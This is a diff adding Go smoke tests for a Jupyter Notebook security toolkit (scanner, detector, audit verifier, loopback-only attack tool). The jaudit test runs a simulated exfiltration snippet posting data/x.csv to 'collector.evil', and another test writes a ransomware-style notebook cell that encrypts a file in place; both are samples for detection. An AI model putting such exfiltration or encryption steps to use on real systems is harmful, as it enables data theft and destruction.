@@ -1,0 +1,213 @@
+// CLI smoke tests: build every command and exercise its primary flow
+// against real files, so flag plumbing and output formats stay honest.
+package repro_test
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"repro/internal/audit"
+	"repro/internal/kernel"
+	"repro/internal/trace"
+	"repro/internal/vfs"
+	"repro/internal/workload"
+)
+
+// buildTools compiles all commands once into a temp dir.
+func buildTools(t *testing.T) string {
+	t.Helper()
+	dir := t.TempDir()
+	cmd := exec.Command("go", "build", "-o", dir+string(os.PathSeparator), "./cmd/...")
+	cmd.Dir = "."
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		t.Fatalf("go build ./cmd/...: %v\n%s", err, out)
+	}
+	return dir
+}
+
+func runTool(t *testing.T, bin string, args ...string) (string, error) {
+	t.Helper()
+	cmd := exec.Command(bin, args...)
+	out, err := cmd.CombinedOutput()
+	return string(out), err
+}
+
+func TestCLITools(t *testing.T) {
+	if testing.Short() {
+		t.Skip("builds binaries")
+	}
+	bin := buildTools(t)
+	work := t.TempDir()
+
+	t.Run("jtaxonomy", func(t *testing.T) {
+		out, err := runTool(t, filepath.Join(bin, "jtaxonomy"), "-fig1", "-fig3")
+		if err != nil {
+			t.Fatalf("%v\n%s", err, out)
+		}
+		for _, want := range []string{"Taxonomy of Jupyter Notebook attacks", "OSCRP mapping", "ransomware"} {
+			if !strings.Contains(out, want) {
+				t.Errorf("output missing %q", want)
+			}
+		}
+	})
+
+	t.Run("jscan-presets", func(t *testing.T) {
+		out, err := runTool(t, filepath.Join(bin, "jscan"), "--preset", "hardened", "--crypto")
+		if err != nil {
+			t.Fatalf("hardened preset should exit 0: %v\n%s", err, out)
+		}
+		if !strings.Contains(out, "hardening score 100/100") {
+			t.Errorf("hardened output: %s", out)
+		}
+		out, err = runTool(t, filepath.Join(bin, "jscan"), "--preset", "sloppy")
+		if err == nil {
+			t.Fatal("sloppy preset should exit non-zero")
+		}
+		if !strings.Contains(out, "JPY-001") {
+			t.Errorf("sloppy output missing findings: %s", out)
+		}
+	})
+
+	t.Run("jupyterd-scan", func(t *testing.T) {
+		out, err := runTool(t, filepath.Join(bin, "jupyterd"), "--sloppy", "--addr", "127.0.0.1:0", "--scan")
+		if err != nil {
+			t.Fatalf("%v\n%s", err, out)
+		}
+		if !strings.Contains(out, "Authentication disabled") {
+			t.Errorf("scan output: %s", out)
+		}
+	})
+
+	t.Run("jsentinel-replay", func(t *testing.T) {
+		// Generate a labelled trace, replay it, expect incidents.
+		tr := workload.StandardMix(21, 200)
+		tracePath := filepath.Join(work, "events.jsonl")
+		f, err := os.Create(tracePath)
+		if err != nil {
+			t.Fatal(err)
+		}
+		w := trace.NewJSONLWriter(f)
+		for _, e := range tr.Events {
+			w.Emit(e)
+		}
+		if err := w.Flush(); err != nil {
+			t.Fatal(err)
+		}
+		f.Close()
+
+		out, err := runTool(t, filepath.Join(bin, "jsentinel"), "--replay", tracePath, "--alerts=false")
+		if err != nil {
+			t.Fatalf("%v\n%s", err, out)
+		}
+		for _, want := range []string{"replayed", "Detection report", "ransomware"} {
+			if !strings.Contains(out, want) {
+				t.Errorf("replay output missing %q:\n%s", want, out)
+			}
+		}
+	})
+
+	t.Run("jdataset", func(t *testing.T) {
+		tr := workload.StandardMix(22, 100)
+		in := filepath.Join(work, "raw.jsonl")
+		f, _ := os.Create(in)
+		w := trace.NewJSONLWriter(f)
+		for _, e := range tr.Events {
+			w.Emit(e)
+		}
+		_ = w.Flush()
+		f.Close()
+		outPath := filepath.Join(work, "shared.jsonl")
+		out, err := runTool(t, filepath.Join(bin, "jdataset"),
+			"--in", in, "--out", outPath, "--deny", "alice", "--deny", "203.0.113.66")
+		if err != nil {
+			t.Fatalf("%v\n%s", err, out)
+		}
+		shared, err := os.ReadFile(outPath)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if strings.Contains(string(shared), `"alice"`) || strings.Contains(string(shared), "203.0.113.66") {
+			t.Fatal("identities leaked into shared dataset")
+		}
+	})
+
+	t.Run("jaudit", func(t *testing.T) {
+		// Produce a real audit log through an audited kernel.
+		clock := trace.NewFakeClock(time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC))
+		log := audit.NewLog(clock)
+		tracer := audit.NewTracer(log)
+		fs := vfs.New(vfs.WithClock(clock))
+		_ = fs.Write("data/x.csv", "setup", []byte("a,b\n1,2\n"))
+		mgr := kernel.NewManager(kernel.Config{
+			FS: fs, Clock: clock,
+			Gateway: kernel.GatewayFunc(func(m, u string, b []byte) (int, []byte, error) {
+				return 200, nil, nil
+			}),
+			HostWrapper: tracer.WrapHost,
+			ExecHook:    func(id, u, c string) { tracer.RecordExec(id, u, c) },
+		})
+		k := mgr.Start("", "mallory")
+		if _, err := k.Execute(`w = read_file("data/x.csv")
+http_post("http://collector.evil/drop", w)`, nil); err != nil {
+			t.Fatal(err)
+		}
+		logPath := filepath.Join(work, "audit.jsonl")
+		if err := os.WriteFile(logPath, audit.MarshalJSONL(log.Records()), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		out, err := runTool(t, filepath.Join(bin, "jaudit"),
+			"--log", logPath, "--verify", "--exfiltrated")
+		if err != nil {
+			t.Fatalf("%v\n%s", err, out)
+		}
+		for _, want := range []string{"hash chain intact", "POSSIBLE EXFIL: data/x.csv"} {
+			if !strings.Contains(out, want) {
+				t.Errorf("jaudit output missing %q:\n%s", want, out)
+			}
+		}
+		// Tamper with the log file: jaudit must refuse.
+		tampered := strings.Replace(string(audit.MarshalJSONL(log.Records())),
+			"data/x.csv", "innocent.txt", 1)
+		_ = os.WriteFile(logPath, []byte(tampered), 0o644)
+		out, err = runTool(t, filepath.Join(bin, "jaudit"), "--log", logPath, "--verify")
+		if err == nil {
+			t.Fatalf("tampered log accepted:\n%s", out)
+		}
+		if !strings.Contains(out, "CHAIN BROKEN") {
+			t.Errorf("tamper output: %s", out)
+		}
+	})
+
+	t.Run("jscan-notebook", func(t *testing.T) {
+		trojan := filepath.Join(work, "trojan.ipynb")
+		content := `{"cells": [{"id": "c1", "cell_type": "code", "metadata": {}, "outputs": [],
+	     "source": "write_file(f, encrypt(read_file(f), \"k\"))"}],
+	    "metadata": {}, "nbformat": 4, "nbformat_minor": 5}`
+		if err := os.WriteFile(trojan, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		out, err := runTool(t, filepath.Join(bin, "jscan"), "--notebook", trojan)
+		if err == nil {
+			t.Fatal("trojan notebook scan should exit non-zero")
+		}
+		if !strings.Contains(out, "ransomware") {
+			t.Errorf("scan output: %s", out)
+		}
+	})
+
+	t.Run("jattack-refuses-nonloopback", func(t *testing.T) {
+		out, err := runTool(t, filepath.Join(bin, "jattack"),
+			"--target", "192.0.2.1:8888", "--attack", "ransomware")
+		if err == nil {
+			t.Fatal("non-loopback target accepted")
+		}
+		if !strings.Contains(out, "refusing non-loopback") {
+			t.Errorf("output: %s", out)
+		}
+	})
+}
